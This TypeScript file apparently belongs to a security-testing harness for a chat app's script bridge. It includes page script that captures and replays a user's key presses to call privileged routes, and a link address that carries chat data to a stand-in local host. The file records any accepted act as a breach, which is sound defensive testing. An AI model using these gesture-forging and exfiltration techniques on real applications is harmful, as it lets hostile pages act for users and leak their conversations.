import { oddName } from '../generators/words.mjs'
import { CHAT_DATA } from '../ledger.ts'
import type { Random } from '../random.mjs'
import type { World } from '../world.ts'
import type { Action } from './action.ts'
import { refusing } from './consenting-to.ts'

interface Bridge {
  bridge: { request(route: string, input: unknown): Promise<{ ok: boolean }> }
}

/** Longer than a press counts for any route. */
export const STALE_MS = 3200

/** An address that brings out what stands in the chat. */
const leakingAddress = (random: Random): string =>
  `http://127.0.0.1:9/${random.pick(['x', '#', '?q='])}${CHAT_DATA}${encodeURIComponent(oddName(random).replaceAll(/\p{Surrogate}/gu, '')).slice(0, 200)}`

/** Routes that act for the person, with inputs that are valid. */
function actsOf(world: World, random: Random): readonly (readonly [string, unknown])[] {
  const serverId = world.servers.at(-1)?.id ?? 'none'
  return [
    ['app.open-link', { url: leakingAddress(random) }],
    ['server.start', { id: serverId }],
    ['server.restart', { id: serverId }],
    ['chat.set-new-chats', { model: null }],
    ['window.open-quick', {}],
  ]
}

/** Counts what script in the window gets accepted. It replays what it kept of the presses before. */
const replay = (world: World, acts: readonly (readonly [string, unknown])[]): Promise<number> =>
  world.subject.page.evaluate(async (list) => {
    const { bridge, kept = [] } = window as unknown as Bridge & { kept?: Event[] }
    const replayed = kept.slice()
    let accepted = 0
    for (const [route, input] of list) {
      for (const event of replayed) {
        const { type } = event
        const Kind = event.constructor as new (name: string, init: object) => Event
        document.activeElement?.dispatchEvent(event)
        document.activeElement?.dispatchEvent(
          new Kind(type, Object.assign({ bubbles: true }, event)),
        )
      }
      // The replayed ones were kept as well.
      kept.length = replayed.length
      document.querySelector<HTMLElement>('button:not([disabled])')?.focus()
      if ((await bridge.request(route, input)).ok) accepted += 1
    }
    return accepted
  }, acts)

/** Has script in the window act for the person; resolves to how many acts were accepted. */
export const actWithoutPress = (world: World, random: Random): Promise<number> =>
  refusing(world.subject.page, replay(world, actsOf(world, random)))

/** Script in the window that keeps presses of the person and uses them later. */
async function harvestPresses(world: World, random: Random): Promise<string> {
  const { page } = world.subject
  await page.evaluate(() => {
    const kept: Event[] = []
    Object.assign(window, { kept })
    for (const type of ['keydown', 'keyup', 'pointerdown', 'pointerup', 'click'])
      window.addEventListener(type, (event) => kept.push(event), { capture: true })
  })
  const presses = random.int(1, 6)
  for (let count = 0; count < presses; count += 1) await page.keyboard.press('Shift')
  await page.waitForTimeout(STALE_MS)
  const accepted = await actWithoutPress(world, random)
  if (accepted > 0)
    world.subject.breach('commands', `${accepted} acts were done with presses that were kept`)
  return `${presses} kept, ${accepted} accepted`
}

/** Script in the window that sends chat data away in an address, without a press. */
async function openLink(world: World, random: Random): Promise<string> {
  const { page } = world.subject
  await page.waitForTimeout(STALE_MS)
  const acts = Array.from(
    { length: 5 },
    () => ['app.open-link', { url: leakingAddress(random) }] as const,
  )
  const accepted = await refusing(page, replay(world, acts))
  if (accepted > 0) world.subject.breach('commands', `${accepted} links opened without a press`)
  return `${accepted} opened`
}

export const pressActions: Action[] = [
  { name: 'harvest presses', weight: 2, run: harvestPresses },
  { name: 'open links from the page', weight: 2, run: openLink },
]
